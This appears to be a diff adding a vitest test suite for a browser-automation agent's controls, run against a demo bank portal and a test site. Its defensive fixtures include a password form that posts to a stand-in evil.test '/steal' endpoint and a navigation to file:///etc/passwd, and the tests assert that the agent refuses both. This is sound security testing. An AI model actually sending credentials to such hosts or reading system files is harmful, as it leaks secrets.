@@ -1,0 +1,162 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AppError } from '../../src/core/index.js';
+import { CANARY_PASSWORD, options, refOf, useAgentFixture } from './agent-support.js';
+import { html, startSite, type Site } from './support.js';
+
+// The rest of the agent tools on the demo portal (bank.test) and a small test site (site.test).
+describe('agent controls: select, keys, hover, back, wait, navigate, screenshot, fill (real Chromium)', () => {
+  const fx = useAgentFixture();
+  let site: Site;
+
+  beforeAll(async () => {
+    site = await startSite((req, res) => {
+      if (req.url === '/hover') {
+        return html(res, `<button id="b" onmouseenter="document.getElementById('tip').textContent='Tip shown'">Hover me</button><p id="tip"></p>`);
+      }
+      if (req.url === '/leaky-form') {
+        return html(res, `<form action="http://evil.test:${site.port}/steal" method="post"><label for="p">Password</label><input id="p" name="p" type="password"><button>Go</button></form>`);
+      }
+      if (req.url === '/later') {
+        return html(res, `<p>Waiting</p><script>setTimeout(() => { const p = document.createElement('p'); p.textContent = 'Arrived later'; document.body.append(p); }, 300)</script>`);
+      }
+      html(res, '<p>Site</p>');
+    });
+  });
+  afterAll(async () => {
+    await site?.close();
+  });
+
+  const siteSession = (sessionId: string) =>
+    fx.pool.open({
+      sessionId,
+      allowedHosts: ['site.test'],
+      allowInsecureHttp: true,
+      policy: { downloads: 'block', uploads: 'block', clipboardCopy: 'deny', clipboardPaste: 'deny' },
+      onEvent: (event) => fx.events.push(event),
+    });
+
+  it('selects an option, presses Enter to submit, goes back', async () => {
+    const session = await fx.loggedIn('agent-actions-1');
+    try {
+      await session.agent.navigate(`${fx.base}/transfer`, options);
+      const form = await session.agent.snapshot(options);
+      await session.agent.type(refOf(form.text, 'textbox "To (IBAN)"'), 'DE89370400440532013000', options);
+      await session.agent.type(refOf(form.text, 'textbox "Amount (EUR)"'), '2.50', options);
+      const selected = await session.agent.selectOption(refOf(form.text, 'combobox "Purpose (optional)"'), ['savings'], options);
+      expect(selected.target).toBe('combobox "Purpose (optional)"');
+      const missing = await session.agent.selectOption(refOf(form.text, 'combobox "Purpose (optional)"'), ['lottery'], options).catch((error: unknown) => error);
+      expect(missing).toMatchObject({ code: 'invalid_request' });
+      const notAList = await session.agent.selectOption(refOf(form.text, 'textbox "Amount (EUR)"'), ['x'], options).catch((error: unknown) => error);
+      expect(notAList).toMatchObject({ code: 'invalid_request' });
+
+      const pressed = await session.agent.pressKey('Enter', options);
+      expect(pressed.effect).toBe('navigated');
+      const after = await session.agent.snapshot(options);
+      expect(after.text).toContain('Sent €2.50 to DE89370400440532013000. Purpose: Savings.');
+      await expect(session.agent.pressKey('Not A Key', options)).rejects.toMatchObject({ code: 'invalid_request' });
+
+      await session.agent.navigate(`${fx.base}/accounts`, options);
+      const back = await session.agent.goBack(options);
+      expect(back.effect).toBe('navigated');
+      expect(back.page.url).toBe(`${fx.base}/transfer`);
+    } finally {
+      await session.close();
+    }
+  });
+
+  it('hovers by ref (the page reacts); waits for text, a ref and a URL, and times out with wait_timed_out', async () => {
+    const session = await siteSession('agent-actions-2');
+    try {
+      await session.agent.navigate(site.url('site.test', '/hover'), options);
+      const snap = await session.agent.snapshot(options);
+      const hovered = await session.agent.hover(refOf(snap.text, 'button "Hover me"'), options);
+      expect(hovered).toMatchObject({ effect: 'changed', target: 'button "Hover me"' });
+      expect((await session.agent.snapshot(options)).text).toContain('Tip shown');
+
+      await session.agent.navigate(site.url('site.test', '/later'), options);
+      const met = await session.agent.waitFor({ text: 'Arrived later' }, 20_000, options);
+      expect(met.page.url).toBe(site.url('site.test', '/later'));
+      const refSnap = await session.agent.snapshot(options);
+      await session.agent.waitFor({ ref: refOf(refSnap.text, 'Arrived later') }, 5_000, options);
+      await session.agent.waitFor({ url: '/later' }, 5_000, options);
+      await session.agent.waitFor({ url: '**/later' }, 5_000, options);
+
+      const timedOut = await session.agent.waitFor({ text: 'Never on this page' }, 500, options).catch((error: unknown) => error);
+      expect(timedOut).toBeInstanceOf(AppError);
+      expect(timedOut).toMatchObject({ code: 'wait_timed_out', status: 408 });
+      await expect(session.agent.waitFor({ url: '/elsewhere' }, 300, options)).rejects.toMatchObject({ code: 'wait_timed_out' });
+      await expect(session.agent.waitFor({ text: 'a', url: 'b' }, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
+      await expect(session.agent.waitFor({}, 300, options)).rejects.toMatchObject({ code: 'invalid_request' });
+    } finally {
+      await session.close();
+    }
+  });
+
+  it('navigating outside the allowlist is forbidden and reported as blocked; the session goes on', async () => {
+    const session = await fx.loggedIn('agent-actions-3');
+    try {
+      const refused = await session.agent.navigate(`http://evil.test:${new URL(fx.base).port}/`, options).catch((error: unknown) => error);
+      expect(refused).toMatchObject({ code: 'forbidden' });
+      expect(fx.events).toContainEqual(expect.objectContaining({ type: 'blocked', what: 'navigation', url: `http://evil.test:${new URL(fx.base).port}/` }));
+      await expect(session.agent.navigate('file:///etc/passwd', options)).rejects.toMatchObject({ code: 'forbidden' });
+      const still = await session.agent.snapshot(options);
+      expect(still.page.url).toBe(`${fx.base}/accounts`);
+      expect(still.text).toContain('€12,345.67');
+    } finally {
+      await session.close();
+    }
+  });
+
+  it('a screenshot is a JPEG of the viewport', async () => {
+    const session = await fx.loggedIn('agent-actions-4');
+    try {
+      const shot = await session.agent.screenshot(options);
+      expect(shot.jpeg.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
+      expect(shot).toMatchObject({ width: 1280, height: 720, page: { url: `${fx.base}/accounts` } });
+    } finally {
+      await session.close();
+    }
+  });
+
+  it("fills a credential into a page's password field; its value is redacted from snapshots even without the vault's values", async () => {
+    const session = await fx.loggedIn('agent-actions-5');
+    try {
+      await session.agent.navigate(`${fx.base}/login`, options);
+      const form = await session.agent.snapshot(options);
+      const secret = Buffer.from(CANARY_PASSWORD);
+      const filled = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), secret, options);
+      expect(filled).toMatchObject({ target: 'textbox "Password"', field: 'password' });
+      const after = await session.agent.snapshot(options);
+      expect(after.text).toMatch(/textbox "Password"[^\n]*: \[REDACTED\]/);
+      // The page's password-field values are redacted on their own (a value the agent typed itself, too).
+      const bare = await session.agent.snapshot({ redact: { values: () => [] } });
+      expect(bare.text).toMatch(/textbox "Password"[^\n]*: \[REDACTED\]/);
+      expect(JSON.stringify([filled, after, bare])).not.toContain(CANARY_PASSWORD);
+      const notAField = await session.agent.fillCredential(refOf(form.text, 'button "Sign in"'), secret, options).catch((error: unknown) => error);
+      expect(notAField).toMatchObject({ code: 'invalid_request' });
+    } finally {
+      await session.close();
+    }
+  });
+
+  it('refuses to fill a credential into a form that posts to a host the asset does not allow', async () => {
+    const session = await siteSession('agent-actions-6');
+    try {
+      await session.agent.navigate(site.url('site.test', '/leaky-form'), options);
+      const form = await session.agent.snapshot(options);
+      const refused = await session.agent.fillCredential(refOf(form.text, 'textbox "Password"'), Buffer.from(CANARY_PASSWORD), options).catch((error: unknown) => error);
+      expect(refused).toMatchObject({ code: 'forbidden' });
+      expect((await session.agent.snapshot(options)).text).not.toMatch(/textbox "Password"[^\n]*: /);
+    } finally {
+      await session.close();
+    }
+    expect(fx.logs.text()).not.toContain(CANARY_PASSWORD);
+  });
+
+  it('refuses while the session is closed (session_ended)', async () => {
+    const session = await fx.loggedIn('agent-actions-7');
+    await session.close();
+    await expect(session.agent.snapshot(options)).rejects.toMatchObject({ code: 'session_ended' });
+    await expect(session.agent.click('e1', options)).rejects.toMatchObject({ code: 'session_ended' });
+  });
+});
